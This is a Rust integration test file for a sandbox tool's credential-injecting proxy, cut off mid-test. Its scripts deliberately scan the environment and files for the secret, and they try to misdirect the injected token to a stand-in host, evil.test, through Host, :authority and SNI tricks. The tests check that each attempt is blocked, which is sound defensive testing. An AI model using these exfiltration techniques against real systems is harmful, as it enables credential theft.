//! Injected credentials (`deliver = "inject"`), end to end: real cells in `proxy` mode,
//! an HTTPS server started here on 127.0.0.1 with its own test CA (the proxy trusts it
//! through `upstream_ca`), names mapped with `[network] resolve` plus an explicit rule
//! for 127.0.0.1 (as in tests/net.rs).
//!
//! The server echoes each request (head and body) in its response and records it, so
//! a test sees both what arrived (the real value) and what the cell got back (the
//! placeholder again).

mod common;

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};

use common::*;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};

/// The real value of the test token (a GitHub-shaped token).
const REAL: &str = "ghp_R3alV4lueN0tF0rTheCe11xxxxxxxxxxxxxx";
/// A second secret, bound to a host nobody serves.
const REAL2: &str = "sk-proj-0therRealValue0123456789abcdef";

struct Server {
    port: u16,
    /// Every request received (head + body), as text.
    seen: Arc<Mutex<Vec<String>>>,
    /// The test CA (PEM) the server's certificate chains to.
    ca_pem: String,
}

/// An HTTPS server for `names` on 127.0.0.1 with its own CA. Each request is answered
/// with its own head and body (200), except paths under /repo.git (404). One request
/// per connection.
fn https_server(names: &[&str]) -> Server {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let ca_key = rcgen::KeyPair::generate().expect("ca key");
    let mut ca = rcgen::CertificateParams::new(Vec::<String>::new()).expect("ca params");
    ca.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    ca.distinguished_name
        .push(rcgen::DnType::CommonName, "taskcell test origin CA");
    ca.key_usages = vec![
        rcgen::KeyUsagePurpose::KeyCertSign,
        rcgen::KeyUsagePurpose::DigitalSignature,
    ];
    let ca_cert = ca.self_signed(&ca_key).expect("ca cert");
    let key = rcgen::KeyPair::generate().expect("leaf key");
    let mut leaf =
        rcgen::CertificateParams::new(names.iter().map(|s| s.to_string()).collect::<Vec<_>>())
            .expect("leaf params");
    leaf.distinguished_name
        .push(rcgen::DnType::CommonName, "taskcell test origin");
    let leaf = leaf.signed_by(&key, &ca_cert, &ca_key).expect("leaf");
    let cfg = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .expect("versions")
        .with_no_client_auth()
        .with_single_cert(
            vec![
                leaf.der().clone(),
                CertificateDer::from(ca_cert.der().to_vec()),
            ],
            PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
        )
        .expect("server config");
    let cfg = Arc::new(cfg);
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let seen2 = seen.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(c) = c else { continue };
            let cfg = cfg.clone();
            let seen = seen2.clone();
            std::thread::spawn(move || {
                let Ok(conn) = rustls::ServerConnection::new(cfg) else {
                    return;
                };
                let mut s = rustls::StreamOwned::new(conn, c);
                let mut buf = Vec::new();
                // Requests on this connection (keep-alive unless the client closes).
                while let Some(req) = read_request(&mut s, &mut buf) {
                    seen.lock().expect("lock").push(req.clone());
                    let first = req.lines().next().unwrap_or("").to_string();
                    let close = req.to_ascii_lowercase().contains("connection: close");
                    let conn_hdr = if close { "Connection: close\r\n" } else { "" };
                    if first.contains(" /close10") {
                        // HTTP/1.0 style: no length, the end of the body is the end of
                        // the connection (closed without close_notify, as many servers do).
                        let body = format!("ECHO<<{req}>>\n");
                        let _ = s.write_all(
                            format!("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n{body}")
                                .as_bytes(),
                        );
                        let _ = s.flush();
                        return;
                    }
                    let resp = if first.contains(" /repo.git") {
                        let body = "no such repository\n";
                        format!(
                            "HTTP/1.1 404 Not Found\r\nContent-Length: {}\r\n{conn_hdr}\r\n{body}",
                            body.len()
                        )
                    } else if first.contains(" /chunked") {
                        // The echo in 7-byte chunks: a value spans chunk boundaries.
                        let body = format!("ECHO<<{req}>>\n");
                        let mut out = format!(
                            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n{conn_hdr}\r\n"
                        );
                        for piece in body.as_bytes().chunks(7) {
                            out.push_str(&format!("{:x}\r\n", piece.len()));
                            out.push_str(&String::from_utf8_lossy(piece));
                            out.push_str("\r\n");
                        }
                        out.push_str("0\r\n\r\n");
                        out
                    } else {
                        let body = format!("ECHO<<{req}>>\n");
                        format!(
                            "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {}\r\n{conn_hdr}\r\n{body}",
                            body.len()
                        )
                    };
                    if s.write_all(resp.as_bytes())
                        .and_then(|_| s.flush())
                        .is_err()
                        || close
                    {
                        break;
                    }
                }
                s.conn.send_close_notify();
                let _ = s.flush();
            });
        }
    });
    Server {
        port,
        seen,
        ca_pem: ca_cert.pem(),
    }
}

/// Read one request (head + body, Content-Length or chunked, the body decoded) from a
/// connection; `buf` keeps bytes of the next one. None at the end.
fn read_request<S: Read>(s: &mut S, buf: &mut Vec<u8>) -> Option<String> {
    fn more<S: Read>(s: &mut S, buf: &mut Vec<u8>) -> Option<()> {
        let mut b = [0u8; 4096];
        match s.read(&mut b) {
            Ok(0) | Err(_) => None,
            Ok(n) => {
                buf.extend_from_slice(&b[..n]);
                Some(())
            }
        }
    }
    let head_end = loop {
        if let Some(i) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        more(s, buf)?;
    };
    let head = String::from_utf8_lossy(&buf[..head_end]).to_string();
    let field = |name: &str| {
        head.lines().find_map(|l| {
            let (k, v) = l.split_once(':')?;
            k.trim()
                .eq_ignore_ascii_case(name)
                .then(|| v.trim().to_ascii_lowercase())
        })
    };
    let mut body = Vec::new();
    let mut at = head_end;
    if field("transfer-encoding").is_some_and(|v| v.contains("chunked")) {
        loop {
            let line_end = loop {
                if let Some(i) = buf[at..].windows(2).position(|w| w == b"\r\n") {
                    break at + i;
                }
                more(s, buf)?;
            };
            let size = usize::from_str_radix(
                String::from_utf8_lossy(&buf[at..line_end])
                    .split(';')
                    .next()?
                    .trim(),
                16,
            )
            .ok()?;
            at = line_end + 2;
            while buf.len() < at + size + 2 {
                more(s, buf)?;
            }
            body.extend_from_slice(&buf[at..at + size]);
            at += size + 2;
            if size == 0 {
                break;
            }
        }
    } else {
        let len = field("content-length")
            .and_then(|v| v.parse::<usize>().ok())
            .unwrap_or(0);
        while buf.len() < head_end + len {
            more(s, buf)?;
        }
        body.extend_from_slice(&buf[head_end..head_end + len]);
        at = head_end + len;
    }
    buf.drain(..at);
    Some(format!("{head}{}", String::from_utf8_lossy(&body)))
}

/// A plain HTTP server that records requests.
fn http_server() -> (u16, Arc<Mutex<Vec<String>>>) {
    let l = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = l.local_addr().expect("addr").port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let seen2 = seen.clone();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            let mut buf = Vec::new();
            let mut b = [0u8; 4096];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match c.read(&mut b) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&b[..n]),
                }
            }
            seen2
                .lock()
                .expect("lock")
                .push(String::from_utf8_lossy(&buf).to_string());
            let _ = c.write_all(
                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
            );
        }
    });
    (port, seen)
}

/// A proxy-mode profile with the test token injected for `api.test` (placeholder via
/// `channel`), a second secret bound to `never.test`, and the test network.
/// Returns the profile's path and the directory holding the values (keep it alive).
fn profile(ws: &Ws, srv: &Server, http_port: u16, channel: &str, extra: &str) -> (String, Ws) {
    // The values live outside the workspace (which the cell sees).
    let vault = Ws::new();
    std::fs::write(vault.join("token"), REAL).expect("token");
    std::fs::write(vault.join("token2"), REAL2).expect("token2");
    let vault_s = vault.path().display().to_string();
    std::fs::write(ws.join("test-ca.pem"), &srv.ca_pem).expect("ca");
    let p = ws.join("inject.toml");
    let port = srv.port;
    let ws_s = ws.path().display();
    std::fs::write(
        &p,
        format!(
            r#"extends = "build"

[network]
mode = "proxy"
allow = ["api.test:{port}", "plain.test:{port}", "127.0.0.1:{port}", "other.test:{http_port}", "127.0.0.1:{http_port}"]
resolve = {{ "api.test" = "127.0.0.1", "plain.test" = "127.0.0.1", "other.test" = "127.0.0.1" }}
upstream_ca = "{ws_s}/test-ca.pem"

[secrets.TOK]
from = {{ file = "{vault_s}/token" }}
deliver = "inject"
placeholder = "{channel}"
hosts = ["api.test"]
mask = false
{extra}

[secrets.OTHER]
from = {{ file = "{vault_s}/token2" }}
deliver = "inject"
hosts = ["never.test"]
mask = false
"#
        ),
    )
    .expect("profile");
    (p.display().to_string(), vault)
}

/// What most tests start from: an HTTPS origin for `names`, the plain HTTP server and
/// [`profile`]'s profile (`_vault` holds the values while the test runs).
struct Setup {
    srv: Server,
    hport: u16,
    hseen: Arc<Mutex<Vec<String>>>,
    prof: String,
    _vault: Ws,
}

fn setup(ws: &Ws, names: &[&str], channel: &str, extra: &str) -> Setup {
    let srv = https_server(names);
    let (hport, hseen) = http_server();
    let (prof, vault) = profile(ws, &srv, hport, channel, extra);
    Setup {
        srv,
        hport,
        hseen,
        prof,
        _vault: vault,
    }
}

fn run(ws: &Ws, prof: &str, script: &str) -> (std::process::Output, String) {
    let audit = ws.outside("audit.log");
    let _ = std::fs::remove_file(&audit);
    let o = taskcell(
        ws.path(),
        &[
            "run",
            "-p",
            prof,
            "--audit-log",
            audit.to_str().expect("utf8"),
            "--",
            "/bin/sh",
            "-c",
            script,
        ],
    )
    .output()
    .expect("running taskcell");
    let a = std::fs::read_to_string(&audit).unwrap_or_default();
    (o, a)
}

/// Lines `NAME: VALUE` in `text` (name in any case: HTTP/2 lowercases it).
fn header_lines(text: &str, name: &str, value: &str) -> usize {
    text.lines()
        .filter(|l| {
            l.split_once(':')
                .is_some_and(|(k, v)| k.trim().eq_ignore_ascii_case(name) && v.trim() == value)
        })
        .count()
}

/// The placeholder the cell printed on a line `PH=...`.
fn placeholder(out: &str) -> String {
    out.lines()
        .find_map(|l| l.strip_prefix("PH="))
        .expect("the cell printed its placeholder")
        .to_string()
}

#[test]
fn value_reaches_bound_host_only_and_never_the_cell() {
    let ws = Ws::new();
    let s = setup(
        &ws,
        &["api.test", "plain.test"],
        "env",
        "inject_body = true",
    );
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let script = format!(
        r#"echo "PH=$TOK"
curl -sS --fail "https://api.test:{port}/v1/q?t=$TOK" -H "Authorization: Bearer $TOK"
echo
curl -sS --fail -u "user:$TOK" "https://api.test:{port}/basic"
echo
curl -sS --fail -X POST --data-binary "token=$TOK" "https://api.test:{port}/post"
echo
echo ENV-BEGIN; env; echo ENV-END
cat /proc/self/environ | tr '\0' '\n'
A={a}; B={b}; grep -rl "$A$B" /run /tmp /etc/ssl "$HOME" "$PWD" 2>/dev/null | sed 's/^/FOUND /'; echo GREP-DONE
"#,
        a = &REAL[..12],
        b = &REAL[12..],
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    // Same shape: same length, prefix kept, not the value.
    assert_eq!(ph.len(), REAL.len(), "{ph}");
    assert!(ph.starts_with("ghp_"), "{ph}");
    assert_ne!(ph, REAL);
    // The cell never saw the value: not in its environment, files or output (masking
    // is off for this secret, so nothing hides it).
    assert!(!out.contains(REAL), "the cell saw the value:\n{out}");
    assert!(!stderr(&o).contains(REAL), "{}", stderr(&o));
    assert!(
        out.contains("GREP-DONE") && !out.contains("FOUND "),
        "{out}"
    );
    // The server got the value: request line, header, Basic credentials, body.
    let seen = srv.seen.lock().expect("lock").clone();
    let all = seen.join("\n----\n");
    assert!(
        all.contains(&format!("GET /v1/q?t={REAL} HTTP/1.1")),
        "{all}"
    );
    assert_eq!(
        header_lines(&all, "authorization", &format!("Bearer {REAL}")),
        1,
        "{all}"
    );
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("user:{REAL}"));
    assert!(all.contains(&format!("Basic {b64}")), "{all}");
    assert!(all.contains(&format!("token={REAL}")), "{all}");
    assert!(
        !all.contains(&ph),
        "a placeholder reached the server:\n{all}"
    );
    // The echo came back with the placeholder in place of the value.
    assert_eq!(
        header_lines(&out, "authorization", &format!("Bearer {ph}")),
        1,
        "{out}"
    );
    assert!(out.contains(&format!("token={ph}")), "{out}");
    // Audited: each substitution, by name, host and place; never a value.
    assert!(audit.contains("\"event\":\"secret_injected\""), "{audit}");
    assert!(audit.contains("\"where\":\"request line\""), "{audit}");
    assert!(
        audit.contains("\"where\":\"header authorization\""),
        "{audit}"
    );
    assert!(
        audit.contains("\"where\":\"header authorization (basic)\""),
        "{audit}"
    );
    assert!(audit.contains("\"where\":\"body\""), "{audit}");
    assert!(audit.contains("\"host\":\"api.test\""), "{audit}");
    assert!(!audit.contains(REAL) && !audit.contains(REAL2), "{audit}");
}

#[test]
fn file_placeholder_and_no_body_injection_by_default() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "file", "");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let script = format!(
        r#"T=$(cat "$TOK_FILE"); echo "PH=$T"
curl -sS --fail --http1.1 -H "X-Token: $T" --data-binary "b=$T" "https://api.test:{port}/x"
"#
    );
    let (o, _) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert_eq!(ph.len(), REAL.len());
    let all = srv.seen.lock().expect("lock").join("\n");
    assert_eq!(header_lines(&all, "x-token", REAL), 1, "{all}");
    // inject_body is off: the body keeps the placeholder.
    assert!(all.contains(&format!("b={ph}")), "{all}");
    assert!(!out.contains(REAL), "{out}");
}

#[test]
fn placeholder_to_other_hosts_is_blocked_and_reported() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "");
    let (srv, prof, hport, hseen) = (&s.srv, &s.prof, s.hport, &s.hseen);
    let port = srv.port;
    let script = format!(
        r#"echo "PH=$TOK"
echo "plain: $(curl -s -o /dev/null -w '%{{http_code}}' "http://other.test:{hport}/?t=$TOK")"
echo "plain-basic: $(curl -s -o /dev/null -w '%{{http_code}}' -u "u:$TOK" "http://other.test:{hport}/")"
echo "wrong-secret: $(curl -s -o /dev/null -w '%{{http_code}}' -H "X-Key: $OTHER" "https://api.test:{port}/")"
echo "wrong-body: $(curl -s -o /dev/null -w '%{{http_code}}' --data-binary "k=$OTHER" "https://api.test:{port}/")"
echo "clean: $(curl -s -o /dev/null -w '%{{http_code}}' "http://other.test:{hport}/clean")"
"#
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    assert!(out.contains("plain: 403"), "{out}");
    assert!(out.contains("plain-basic: 403"), "{out}");
    assert!(out.contains("wrong-secret: 403"), "{out}");
    assert!(out.contains("wrong-body: 403"), "{out}");
    assert!(out.contains("clean: 200"), "{out}");
    let ph = placeholder(&out);
    let plain = hseen.lock().expect("lock").join("\n");
    assert!(plain.contains("GET /clean"), "{plain}");
    assert!(!plain.contains(&ph) && !plain.contains(REAL), "{plain}");
    let tls = srv.seen.lock().expect("lock").join("\n");
    assert!(!tls.contains(REAL2), "{tls}");
    assert!(
        audit.contains("\"event\":\"secret_leak_blocked\""),
        "{audit}"
    );
    assert!(audit.contains("\"name\":\"TOK\""), "{audit}");
    assert!(audit.contains("\"name\":\"OTHER\""), "{audit}");
    assert!(audit.contains("\"host\":\"other.test\""), "{audit}");
}

#[test]
fn python_and_git_trust_the_cell_ca_without_flags() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let script = format!(
        r#"echo "PH=$TOK"
/usr/bin/python3 -c "
import os, urllib.request
r = urllib.request.Request('https://api.test:{port}/py', headers={{'Authorization': 'token ' + os.environ['TOK']}})
print('PY', urllib.request.urlopen(r).read().decode())
"
git -c http.extraHeader="Authorization: Bearer $TOK" ls-remote "https://api.test:{port}/repo.git" 2>&1; echo "git exit $?"
"#
    );
    let (o, _) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert!(out.contains("PY ECHO<<GET /py HTTP/1.1"), "{out}");
    assert!(out.contains(&format!("token {ph}")), "{out}");
    assert!(
        !out.contains("SSL certificate problem") && !out.contains("certificate verify failed"),
        "{out}"
    );
    let all = srv.seen.lock().expect("lock").join("\n");
    assert!(
        all.contains(&format!("Authorization: token {REAL}")),
        "{all}"
    );
    assert!(
        all.contains("GET /repo.git/info/refs?service=git-upload-pack"),
        "git did not get through TLS:\n{out}\n{all}"
    );
    assert_eq!(
        header_lines(&all, "authorization", &format!("Bearer {REAL}")),
        1,
        "{all}"
    );
    assert!(!out.contains(REAL), "{out}");
}

#[test]
fn unbound_hosts_are_tunnelled_untouched() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test", "plain.test"], "env", "");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let ca = ws.join("test-ca.pem");
    let ca = ca.display();
    // Trusting ONLY the origin's own CA works for the unbound host (the cell sees the
    // server's certificate) and fails for the bound one (the cell CA's leaf).
    let script = format!(
        r#"echo "PH=$TOK"
curl -sS -v --cacert {ca} "https://plain.test:{port}/unbound?t=$TOK" 2>&1 | grep -E 'issuer:|ECHO' ; echo "unbound $?"
curl -sS --cacert {ca} -o /dev/null "https://api.test:{port}/bound" 2>/dev/null; echo "bound-with-origin-ca $?"
curl -sS -v -o /dev/null "https://api.test:{port}/bound" 2>&1 | grep -E 'issuer:'
"#
    );
    let (o, _) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert!(out.contains("issuer: CN=taskcell test origin CA"), "{out}");
    assert!(out.contains("unbound 0"), "{out}");
    assert!(!out.contains("bound-with-origin-ca 0"), "{out}");
    assert!(out.contains("issuer: CN=taskcell cell"), "{out}");
    // Opaque: the placeholder went through untouched (the proxy cannot see inside).
    let all = srv.seen.lock().expect("lock").join("\n");
    assert!(all.contains(&format!("GET /unbound?t={ph}")), "{all}");
}

#[test]
fn keep_alive_chunked_bodies_and_chunked_echoes() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "inject_body = true");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    // Two requests on one connection (curl reuses it), a chunked upload, and a chunked
    // response whose echo of the value is split across chunks.
    let script = format!(
        r#"echo "PH=$TOK"
printf 'data=%s;' "$TOK" > body
curl -sS --fail --http1.1 -H "X-A: $TOK" "https://api.test:{port}/one" -H "X-B: $TOK" "https://api.test:{port}/chunked" -H "Transfer-Encoding: chunked" --data-binary @body
"#
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    let seen = srv.seen.lock().expect("lock").clone();
    assert_eq!(seen.len(), 2, "{seen:?}");
    assert!(seen[1].contains(&format!("data={REAL};")), "{seen:?}");
    assert_eq!(header_lines(&seen[1], "x-b", REAL), 1, "{seen:?}");
    // Both echoes came back with the placeholder (one response was chunked).
    assert_eq!(header_lines(&out, "x-b", &ph), 2, "{out}");
    assert!(out.contains(&format!("data={ph};")), "{out}");
    assert!(!out.contains(REAL), "{out}");
    // One intercepted connection served both requests.
    assert_eq!(
        audit.matches("\"via\":\"connect-inject\"").count(),
        1,
        "{audit}"
    );
}

#[test]
fn http2_from_the_cell() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "inject_body = true");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    // Two streams on one HTTP/2 connection; a body with the placeholder; and another
    // secret's placeholder, which must be refused on its stream.
    let script = format!(
        r#"echo "PH=$TOK"
curl -sS --fail --http2 -v -H "X-Key: $TOK" "https://api.test:{port}/a" --data-binary "v=$TOK" "https://api.test:{port}/chunked" 2>err
grep -c '^< HTTP/2 200' err
echo "other: $(curl -s -o /dev/null -w '%{{http_code}} %{{http_version}}' --http2 -H "X-Key: $OTHER" "https://api.test:{port}/b")"
echo "other-body: $(curl -s -o /dev/null -w '%{{http_code}} %{{http_version}}' --http2 --data-binary "k=$OTHER" "https://api.test:{port}/c")"
"#
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert!(
        out.lines().any(|l| l == "2"),
        "two HTTP/2 responses expected:\n{out}"
    );
    assert!(out.contains("other: 403 2"), "{out}");
    assert!(out.contains("other-body: 403 2"), "{out}");
    let seen = srv.seen.lock().expect("lock").clone();
    assert_eq!(seen.len(), 2, "{seen:?}");
    for s in &seen {
        assert_eq!(header_lines(s, "x-key", REAL), 1, "{s}");
        assert!(s.contains(&format!("v={REAL}")), "{s}");
        assert!(!s.contains(REAL2), "{s}");
    }
    assert_eq!(header_lines(&out, "x-key", &ph), 2, "{out}");
    assert!(!out.contains(REAL), "{out}");
    assert!(audit.contains("\"where\":\"header x-key\""), "{audit}");
    assert!(audit.contains("\"where\":\"body\""), "{audit}");
    assert!(
        audit.contains("\"event\":\"secret_leak_blocked\""),
        "{audit}"
    );
}

#[test]
fn upstream_is_verified_never_weaker() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "");
    let (srv, prof) = (&s.srv, &s.prof);
    // Without the origin's CA the proxy must refuse the origin (502), and the value
    // must not be sent to it.
    let text = std::fs::read_to_string(prof).expect("profile");
    let text: String = text
        .lines()
        .filter(|l| !l.starts_with("upstream_ca"))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(prof, text).expect("profile");
    let port = srv.port;
    let script = format!(
        r#"curl -sS -w '\nstatus %{{http_code}}\n' -H "Authorization: Bearer $TOK" "https://api.test:{port}/x""#
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    assert!(out.contains("status 502"), "{out}");
    assert!(out.contains("TLS to api.test"), "{out}");
    assert!(srv.seen.lock().expect("lock").is_empty());
    assert!(audit.contains("tls_intercept_error"), "{audit}");
}

#[test]
fn inject_needs_proxy_mode_and_hosts() {
    let ws = Ws::new();
    let vault = Ws::new();
    std::fs::write(vault.join("token"), REAL).expect("token");
    let p = ws.join("bad.toml");
    std::fs::write(
        &p,
        format!(
            "extends = \"build\"\n[secrets.TOK]\nfrom = {{ file = \"{}\" }}\ndeliver = \"inject\"\nhosts = [\"api.test\"]\n",
            vault.join("token").display()
        ),
    )
    .expect("profile");
    let o = sh(ws.path(), p.to_str().expect("utf8"), &[], "true");
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("needs `network.mode = \"proxy\"`"),
        "{}",
        stderr(&o)
    );
    std::fs::write(
        &p,
        "extends = \"build\"\n[network]\nmode = \"proxy\"\n[secrets.TOK]\nfrom = { env = \"X\" }\ndeliver = \"inject\"\n",
    )
    .expect("profile");
    let o = sh(ws.path(), p.to_str().expect("utf8"), &[], "true");
    assert!(!o.status.success());
    assert!(stderr(&o).contains("no `hosts`"), "{}", stderr(&o));
}

/// Rewrite a profile written by [`profile`]: `(from, to)` text replacements.
fn edit(prof: &str, pairs: &[(&str, &str)]) {
    let mut text = std::fs::read_to_string(prof).expect("profile");
    for (a, b) in pairs {
        assert!(text.contains(a), "{a} not in the profile");
        text = text.replacen(a, b, 1);
    }
    std::fs::write(prof, text).expect("profile");
}

/// Issue 14.3, as the attack: inside a tunnel to the bound host, the cell names another
/// host (Host, :authority, an absolute-form target, the TLS server name) to have the
/// value sent where it says. Each is refused (403), audited, and the origin never gets
/// the value.
#[test]
fn injected_value_stays_on_its_connect_host() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test", "evil.test"], "env", "");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let code = "-s -o /dev/null -w '%{http_code}'";
    let script = format!(
        r#"echo "PH=$TOK"
echo "host: $(curl {code} --http1.1 -H "Host: evil.test" -H "Authorization: Bearer $TOK" "https://api.test:{port}/h")"
echo "host-port: $(curl {code} --http1.1 -H "Host: api.test:1" -H "Authorization: Bearer $TOK" "https://api.test:{port}/p")"
echo "authority: $(curl {code} --http2 -H "Host: evil.test" -H "Authorization: Bearer $TOK" "https://api.test:{port}/a")"
echo "absolute: $(curl {code} --http1.1 --request-target "https://evil.test/x" -H "Authorization: Bearer $TOK" "https://api.test:{port}/t")"
echo "sni: $(curl {code} -k --http1.1 --connect-to evil.test:{port}:api.test:{port} -H "Host: api.test" -H "Authorization: Bearer $TOK" "https://evil.test:{port}/s")"
echo "sni2: $(curl {code} -k --http2 --connect-to evil.test:{port}:api.test:{port} -H "Authorization: Bearer $TOK" "https://evil.test:{port}/s2")"
echo "right: $(curl {code} -H "Host: api.test:{port}" -H "Authorization: Bearer $TOK" "https://api.test:{port}/ok")"
"#
    );
    let (o, audit) = run(&ws, prof, &script);
    let out = ok(&o);
    for what in ["host", "host-port", "authority", "absolute", "sni", "sni2"] {
        assert!(out.contains(&format!("{what}: 403")), "{what}:\n{out}");
    }
    assert!(out.contains("right: 200"), "{out}");
    let seen = srv.seen.lock().expect("lock").join("\n----\n");
    assert!(seen.contains("GET /ok "), "{seen}");
    for path in ["/h ", "/p ", "/a ", "/x ", "/t ", "/s ", "/s2 "] {
        assert!(!seen.contains(path), "{path} reached the origin:\n{seen}");
    }
    assert_eq!(seen.matches(REAL).count(), 1, "{seen}");
    assert!(
        audit.contains("\"event\":\"request_misdirected\""),
        "{audit}"
    );
    assert!(audit.contains("\"where\":\"TLS server name\""), "{audit}");
    assert!(audit.contains("\"where\":\"Host header\""), "{audit}");
    assert!(audit.contains("\"where\":\":authority\""), "{audit}");
    assert!(audit.contains("\"where\":\"request target\""), "{audit}");
    assert!(!audit.contains(REAL), "{audit}");
}

/// `hosts = ["api.test:PORT"]` binds that port only: the same host on another port is
/// an opaque tunnel, and gets the placeholder, never the value.
#[test]
fn a_port_in_the_binding_binds_that_port_only() {
    let ws = Ws::new();
    let srv = https_server(&["api.test"]);
    let other = https_server(&["api.test"]);
    let (hport, _) = http_server();
    let (prof, _vault) = profile(&ws, &srv, hport, "env", "");
    let (port, port2) = (srv.port, other.port);
    std::fs::write(ws.join("other-ca.pem"), &other.ca_pem).expect("ca");
    edit(
        &prof,
        &[
            (
                "hosts = [\"api.test\"]",
                &format!("hosts = [\"api.test:{port}\"]"),
            ),
            (
                "allow = [",
                &format!("allow = [\"api.test:{port2}\", \"127.0.0.1:{port2}\", "),
            ),
        ],
    );
    let ca2 = ws.join("other-ca.pem");
    let script = format!(
        r#"echo "PH=$TOK"
curl -sS --fail -H "X-T: $TOK" "https://api.test:{port}/bound" >/dev/null; echo "bound $?"
curl -sS --fail --cacert {ca2} -H "X-T: $TOK" "https://api.test:{port2}/unbound" >/dev/null; echo "unbound $?"
"#,
        ca2 = ca2.display()
    );
    let (o, _) = run(&ws, &prof, &script);
    let out = ok(&o);
    let ph = placeholder(&out);
    assert!(
        out.contains("bound 0") && out.contains("unbound 0"),
        "{out}"
    );
    let a = srv.seen.lock().expect("lock").join("\n");
    let b = other.seen.lock().expect("lock").join("\n");
    assert_eq!(header_lines(&a, "x-t", REAL), 1, "{a}");
    assert_eq!(header_lines(&b, "x-t", &ph), 1, "{b}");
    assert!(!b.contains(REAL), "the other port got the value:\n{b}");
}

/// Issue 14.4: an injected secret whose source the cell can read is refused at plan
/// time (exit 125): a file inside the workspace (also through a symlink from outside),
/// or its variable copied into the cell's environment with `{env:NAME}`.
#[test]
fn inject_source_the_cell_can_read_is_refused() {
    let ws = Ws::new();
    let vault = Ws::new();
    std::fs::write(ws.join("token"), REAL).expect("token");
    std::os::unix::fs::symlink(ws.join("token"), vault.join("link")).expect("symlink");
    let p = ws.join("p.toml");
    let write = |from: &str, extra: &str| {
        std::fs::write(
            &p,
            format!(
                "extends = \"build\"\n{extra}\n[network]\nmode = \"proxy\"\n[secrets.TOK]\nfrom = {from}\ndeliver = \"inject\"\nhosts = [\"api.test\"]\n"
            ),
        )
        .expect("profile");
    };
    let refused = |what: &str| {
        for sub in [&["run"][..], &["explain"][..]] {
            let mut args = sub.to_vec();
            args.extend(["-p", p.to_str().expect("utf8")]);
            if sub[0] == "run" {
                args.extend(["--", "/bin/true"]);
            }
            let o = taskcell(ws.path(), &args)
                .env("GH_TOKEN", REAL)
                .output()
                .expect("taskcell");
            let e = stderr(&o);
            assert_eq!(o.status.code(), Some(125), "{what} {sub:?}: {e}");
            assert!(e.contains("the cell could read the value"), "{what}: {e}");
            assert!(!e.contains(REAL) && !stdout(&o).contains(REAL), "{e}");
        }
    };
    write(
        &format!("{{ file = \"{}\" }}", ws.join("token").display()),
        "",
    );
    refused("a file in the workspace");
    write(
        &format!("{{ file = \"{}\" }}", vault.join("link").display()),
        "",
    );
    refused("a symlink into the workspace");
    write(
        "{ env = \"GH_TOKEN\" }",
        "[env]\nset = { COPY = \"x-{env:GH_TOKEN}\" }",
    );
    refused("a copy in the environment");
    // Outside every path the cell sees, and not copied: accepted.
    std::fs::write(vault.join("token"), REAL).expect("token");
    write(
        &format!("{{ file = \"{}\" }}", vault.join("token").display()),
        "",
    );
    let o = taskcell(ws.path(), &["explain", "-p", p.to_str().expect("utf8")])
        .output()
        .expect("taskcell");
    assert!(o.status.success(), "{}", stderr(&o));
}

/// Issue 14.7: HTTP/2 from the cell against an origin that answers HTTP/1.0 style (no
/// length, then it closes the connection), chunked, and with a length; several streams
/// on one connection, the origin's close in between.
#[test]
fn http2_against_close_delimited_chunked_and_length_origins() {
    let ws = Ws::new();
    let s = setup(&ws, &["api.test"], "env", "");
    let (srv, prof) = (&s.srv, &s.prof);
    let port = srv.port;
    let script = format!(
        r#"echo "PH=$TOK"
